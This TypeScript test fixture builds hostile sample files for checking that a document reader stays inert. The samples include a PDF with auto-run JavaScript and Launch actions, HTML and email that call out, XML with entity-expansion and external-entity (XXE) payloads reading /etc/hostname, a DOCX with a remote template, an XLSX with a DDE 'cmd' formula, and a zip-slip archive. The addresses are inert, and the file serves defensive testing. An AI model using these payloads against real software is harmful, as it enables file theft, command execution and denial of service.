/** Documents that would reach out if anything let them: to the net, to files, to programs. Addresses lead nowhere. */
import { zipSync } from 'fflate';
import { bytesOf } from './extractHere.ts';

const elsewhere = 'http://192.0.2.1:9/beacon';
const localFile = 'file:///etc/hostname';

function pdfOf(objects: readonly string[]): Uint8Array {
  let text = '%PDF-1.7\n';
  const offsets = objects.map((object, at) => {
    const offset = text.length;
    text += `${at + 1} 0 obj\n${object}\nendobj\n`;
    return offset;
  });
  const xref = text.length;
  text += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n`;
  for (const offset of offsets) text += `${String(offset).padStart(10, '0')} 00000 n \n`;
  text += `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${xref}\n%%EOF\n`;
  return bytesOf(text);
}

/** Actions on opening, on the page and on links: start a program, run a script, open an address, submit, go to a file. */
function activePdf(): Uint8Array {
  const content = 'BT /F1 12 Tf 20 100 Td (Pay the invoice) Tj ET';
  return pdfOf([
    `<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.launchURL\\("${elsewhere}"\\)) >>
        /AA << /WC << /S /Launch /F (/bin/true) >> >> /Names << /EmbeddedFiles << /Names [(x) 6 0 R] >>
        /JavaScript << /Names [(onOpen) << /S /JavaScript /JS (app.launchURL\\("${elsewhere}"\\)) >>] >> >> >>`,
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 200] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >>
        /AA << /O << /S /URI /URI (${elsewhere}) >> >>
        /Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /Launch /F (/bin/true) >> >>
                 << /Type /Annot /Subtype /Link /Rect [9 9 18 18] /A << /S /GoToR /F (${localFile}) /D [0 /Fit] >> >>
                 << /Type /Annot /Subtype /Link /Rect [9 9 18 18] /A << /S /SubmitForm /F (${elsewhere}) >> >>] >>`,
    `<< /Length ${content.length} >>\nstream\n${content}\nendstream`,
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
    '<< /Type /Filespec /F (x.txt) /EF << /F 7 0 R >> >>',
    '<< /Type /EmbeddedFile /Length 5 >>\nstream\nhello\nendstream',
  ]);
}

const html = `<!doctype html><html><head><link rel="stylesheet" href="${elsewhere}"><script src="${elsewhere}"></script>
<meta http-equiv="refresh" content="0;url=${elsewhere}"></head><body onload="fetch('${elsewhere}')"><p>A page that calls</p>
<img src="${elsewhere}"><iframe src="${localFile}"></iframe><object data="${elsewhere}"></object></body></html>`;

const entities = `<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "bbbbbbbbbb"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">
<!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;"><!ENTITY e "&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;"><!ENTITY x SYSTEM "${localFile}">
<!ENTITY % p SYSTEM "${elsewhere}">%p;]>`;

function office(main: string, parts: Record<string, string>): Uint8Array {
  const types = `<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">
    <Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>
    <Default Extension="xml" ContentType="application/xml"/>
    <Override PartName="/${main}" ContentType="application/vnd.openxmlformats-officedocument.${
      main.startsWith('word') ? 'wordprocessingml.document' : 'spreadsheetml.sheet'
    }.main+xml"/></Types>`;
  const rels = `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">
    <Relationship Id="r" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="${main}"/></Relationships>`;
  const all: Record<string, string> = { '[Content_Types].xml': types, '_rels/.rels': rels, ...parts };
  return zipSync(Object.fromEntries(Object.entries(all).map(([name, text]) => [name, bytesOf(text)])));
}

function callingDocument(): Uint8Array {
  return office('word/document.xml', {
    'word/document.xml': `${entities}<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r>
      <w:t>Terms &amp; template</w:t><w:instrText>INCLUDETEXT "${localFile}"</w:instrText></w:r></w:p></w:body></w:document>`,
    'word/_rels/document.xml.rels': `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">
      <Relationship Id="t" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="${elsewhere}" TargetMode="External"/></Relationships>`,
  });
}

function callingWorkbook(): Uint8Array {
  const sheet = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main';
  return office('xl/workbook.xml', {
    'xl/workbook.xml': `<?xml version="1.0"?><workbook xmlns="${sheet}" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">
      <sheets><sheet name="Calls" sheetId="1" r:id="s1"/></sheets></workbook>`,
    'xl/_rels/workbook.xml.rels': `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">
      <Relationship Id="s1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>`,
    'xl/worksheets/sheet1.xml': `${entities}<worksheet xmlns="${sheet}"><sheetData><row r="1"><c r="A1" t="str"><f>WEBSERVICE("${elsewhere}")</f><v>old answer</v></c>
      <c r="B1" t="str"><f>cmd|'/c calc'!A0</f><v>dde</v></c></row></sheetData></worksheet>`,
  });
}

function zipThatEscapes(): Uint8Array {
  return zipSync({
    '../../../../tmp/probatum-slipped.txt': bytesOf('over the wall'),
    '/tmp/probatum-slipped.txt': bytesOf('from the root'),
    'C:\\probatum-slipped.txt': bytesOf('by a drive'),
  });
}

/** Each with words that a reading of it must give, so that a reader that does nothing does not pass. */
export const hostileDocuments: readonly { name: string; bytes: Uint8Array; words: string }[] = [
  { name: 'actions.pdf', bytes: activePdf(), words: 'Pay the invoice' },
  { name: 'calling.html', bytes: bytesOf(html), words: 'A page that calls' },
  {
    name: 'calling.eml',
    bytes: bytesOf(
      `From: a@example.org\r\nTo: b@example.org\r\nSubject: Look\r\nMIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n${html}`,
    ),
    words: 'A page that calls',
  },
  { name: 'template.docx', bytes: callingDocument(), words: 'Terms & template' },
  { name: 'formulas.xlsx', bytes: callingWorkbook(), words: 'old answer' },
  { name: 'entities.xml', bytes: bytesOf(`${entities}<a>&e;&x;seen</a>`), words: 'seen' },
  {
    name: 'entities.kml',
    bytes: bytesOf(`${entities}<kml><Placemark><name>&e;&x;Pier</name></Placemark></kml>`),
    words: 'Pier',
  },
  { name: 'slip.zip', bytes: zipThatEscapes(), words: 'probatum-slipped.txt' },
];
